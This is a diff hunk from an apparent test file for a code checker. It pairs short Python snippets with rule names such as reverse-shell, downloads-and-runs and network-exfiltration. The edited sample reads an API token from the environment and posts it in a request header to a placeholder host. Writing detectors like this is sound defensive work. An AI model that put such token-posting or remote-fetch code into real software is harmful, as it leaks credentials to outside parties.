@@ -84,8 +84,8 @@ def test_every_rule_has_a_program_that_breaks_it(source: str, rule: str) -> None
         ("import requests\nx = requests.get('http://x.invalid').json()",
          "code.downloads-and-runs"),
         ("import os\nf = os.dup2", "code.reverse-shell"),
-        ("import os, requests\nh = {'Authorization': os.environ['API_TOKEN']}\n"
-         "requests.post('http://x.invalid', headers=h, json={})", "code.network-exfiltration"),
+        ("import os, requests\nh = {'A': os.environ['API_TOKEN']}\nrequests.post('u', headers=h)",
+         "code.network-exfiltration"),
         ("def f():\n    import requests\n    requests.get('http://x.invalid')",
          "code.network-at-load"),
         ("open('vocab.txt').read()", "code.private-file"),
